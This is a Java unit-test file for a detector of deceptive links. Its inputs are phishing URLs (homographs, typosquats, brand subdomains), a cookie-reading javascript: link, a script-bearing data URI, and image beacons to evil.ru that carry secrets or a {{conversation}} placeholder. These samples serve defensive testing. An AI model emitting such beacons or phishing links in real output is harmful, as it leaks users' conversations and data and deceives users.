package dev.bartizan.inspection;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.bartizan.domain.Finding;
import dev.bartizan.domain.TextKind;
import dev.bartizan.inspection.links.LinkReputation;
import dev.bartizan.inspection.links.ListReputation;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class LinkThreatsTest {
    private static final LinkThreats THREATS = new LinkThreats(LinkReputation.none());

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "https://pаypal.com/login | homograph",
                "https://xn--pypal-4ve.com/login | homograph",
                "https://аррӏе.com | homograph",
                "https://www.gооgle.com/accounts | homograph",
                "https://micrоsoft-login.net | homograph",
                "https://paypa1.com/signin | look-alike",
                "https://rnicrosoft.com/ | look-alike",
                "https://g00gle.com | look-alike",
                "Please visit paypa1.com/login today | look-alike",
                "https://paypaI.com.evil.ru/ | brand-subdomain",
                "https://paypal.com.account-check.ru/ | brand-subdomain",
                "https://login.microsoftonline.com.office-verify.net/x | brand-subdomain",
                "https://paypal.secure-login.example.ru/ | brand-subdomain",
                "https://secure-paypal.com | combined",
                "https://paypal-verify.net/account | combined",
                "https://amazon-support.org/x | combined",
                "https://paypallogin.com | combined",
                "https://netflix-billing.info | combined",
                "https://gogle.com | typo",
                "https://facebok.com/ | typo",
                "https://mircosoft.com | typo",
                "https://linkedln.com/in/bob | typo",
                "https://instagramm.com | typo",
                "https://paypal.xyz/login | ending",
                "https://coinbase.top | ending",
                "https://paypal.com@evil.ru/login | user-info",
                "https://www.google.com@203.0.113.7/ | user-info",
                "http://3232235777/login | ip-disguised",
                "http://0x7f000001/ | ip-disguised",
                "http://0177.0.0.1/admin | ip-disguised",
                "http://45.33.32.156/setup.exe | executable",
                "http://8.8.8.8/x | ip",
                "[click](javascript:alert(document.cookie)) | script",
                "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) | data",
                "https://cdn.unknown-host.ru/invoice.pdf.exe | executable",
                "https://files.unknown-host.ru/tool.msi | executable",
                "https://bit.ly/3xYzAb | shortener",
                "https://tinyurl.com/abc123 | shortener",
                "[https://www.paypal.com](https://evil.ru/login) | other-host",
                "[mybank.de](https://collect.ru/x) | other-host",
                "<a href=\"https://evil.ru/x\">https://github.com/login</a> | other-host",
                "![logo](https://evil.ru/p.png?d=aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA) | beacon",
                "![x](https://evil.ru/p.png?q={{conversation}}) | beacon",
                "<img src=\"https://evil.ru/t.gif?data=user_secret_value\"> | beacon",
                "https://a.b.c.d.e.unknown-host.ru/ | many-labels",
                "https://unknown-host.ru/c?x=QWxhZGRpbjpvcGVuIHNlc2FtZQ0KQWxhZGRpbjpvcGVuIHNlc2FtZQ1234567890AbCd | dense-query",
                "https://evil.ru/\u202Efdp.exe | direction",
                "https://pay\u200Bpal-x.ru/a | invisible",
                "https://paypal-com.pages.dev/verify | brand-subdomain",
                "https://netflix.web.app/account | hosted",
                "https://evil.ru/paypal.com/login | brand-path",
            })
    void findsLinksThatDeceive(String text, String signal) {
        List<Finding> found = THREATS.find(text);

        assertTrue(
                found.stream().anyMatch(finding -> finding.score() >= 0.5),
                () -> "nothing in " + text + " (expected: " + signal + ")");
        assertTrue(
                found.stream().anyMatch(finding -> finding.rule().equals("links/" + signal + "@1")),
                () -> found.stream().map(Finding::rule).toList() + " in " + text);
        found.forEach(finding -> assertTrue(finding.span().end() <= text.length()));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://www.paypal.com/de/signin",
                "https://accounts.google.com/o/oauth2/auth?client_id=1",
                "https://www.amazon.co.jp/dp/B000",
                "https://www.amazon.in/gp/help",
                "https://www.google.fr/search?q=paypal.com+login",
                "https://login.microsoftonline.com/common/oauth2",
                "https://contoso.sharepoint.com/sites/login",
                "https://docs.github.com/en/get-started",
                "https://stripe.com/docs/api",
                "https://google.github.io/styleguide/",
                "https://docs.python.org/3/library/hashlib.html",
                "https://slack.readthedocs.io/en/latest/",
                "https://example.com/login?next=/account",
                "http://localhost:8080/admin",
                "http://192.168.1.10/status",
                "http://127.0.0.1:3000/",
                "https://münchen.de/rathaus",
                "https://пример.рф/страница",
                "https://日本語.jp/",
                "[example.com](https://www.example.com/page)",
                "[the docs](https://docs.spring.io/spring-boot/)",
                "[node.js](https://nodejs.org)",
                "[youtube.com](https://youtu.be/abc)",
                "![build](https://img.shields.io/badge/build-passing-green.svg?style=flat)",
                "![photo](https://images.unsplash.com/photo-1?w=200&h=100)",
                "https://github.com/org/repo/releases/download/v1/tool.exe",
                "https://web.archive.org/web/2020/https://www.paypal.com/login",
                "https://bucket.s3.amazonaws.com/f?X-Amz-Signature=0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
                "git clone https://user@bitbucket.org/team/repo.git",
                "[back](javascript:void(0))",
                "![icon](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA)",
                "https://cooking.com/recipes",
                "https://www.applebees.com/menu",
                "https://paypal.co.uk/help",
                "https://dhl.de/paket",
                "https://www.delta-electronics.com",
                "https://docker-curriculum.com/",
                "https://netflixtechblog.com/post",
                "Version 1.2.3.4 of the file README.md at 10.00 Uhr",
                "https://postgresql.org/docs/current/sql-select.html",
                "https://www.bbc.com/news",
                "https://en.wikipedia.org/wiki/Phishing",
                "Mail ann@paypal.com or bob@unknown.example",
            })
    void leavesOrdinaryLinksAlone(String text) {
        assertEquals(
                List.of(), THREATS.find(text).stream().map(Finding::explanation).toList());
    }

    @Test
    void aListOfBadHostsCountsForSubdomainsAndPaths() {
        ListReputation list = ListReputation.of(
                "feed.txt", List.of("# bad", "bad.ru", "hxxps://mixed[.]example/evil", "0.0.0.0 sink.test"));
        LinkThreats threats = new LinkThreats(list);

        assertEquals(
                "links/known-bad@1",
                threats.find("https://www.bad.ru/x").getFirst().rule());
        assertEquals(
                LinkThreats.MALICIOUS,
                threats.find("https://mixed.example/evil/page").getFirst().type());
        assertEquals(List.of(), threats.find("https://mixed.example/good"));
        assertTrue(threats.find("https://bad.ru").getFirst().explanation().contains("feed.txt"));
    }

    @Test
    void theEngineReportsThemInEveryKindAndInDecodedLayers() {
        InspectionEngine engine = InspectionEngine.standard(AttackClassifier.none());
        String token = Base64.getEncoder()
                .encodeToString("go to https://paypal.com@evil.ru/login now".getBytes(StandardCharsets.UTF_8));

        for (TextKind kind : TextKind.values()) {
            assertTrue(hasMalicious(engine, "see https://pаypal.com/login", kind));
        }
        assertTrue(hasMalicious(engine, token, TextKind.DOCUMENT));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "(",
                "a.",
                "http://",
                "http://a.",
                "[](http://a)",
                "![",
                "[",
                "<a href=http://a",
                "://",
                "javascript:",
                "data:text/",
                "paypal.",
                "paypal-",
                ".",
                "\u202E",
                "http://xn--a",
                "@",
                "https://a@",
                "a-",
                "www.paypa1.com ",
                "https://paypal.com.x.ru/ ",
                "http://1.",
                "%7B"
            })
    void oneMegabyteOfOneThingIsReadInLinearTime(String unit) {
        String text = unit.repeat(1_000_000 / unit.length());

        assertTrue(THREATS.find(text).size() <= 10_000);
    }

    private static boolean hasMalicious(InspectionEngine engine, String text, TextKind kind) {
        return engine.inspect(text, kind).findings().stream()
                .anyMatch(finding -> finding.type().equals(LinkThreats.MALICIOUS));
    }
}
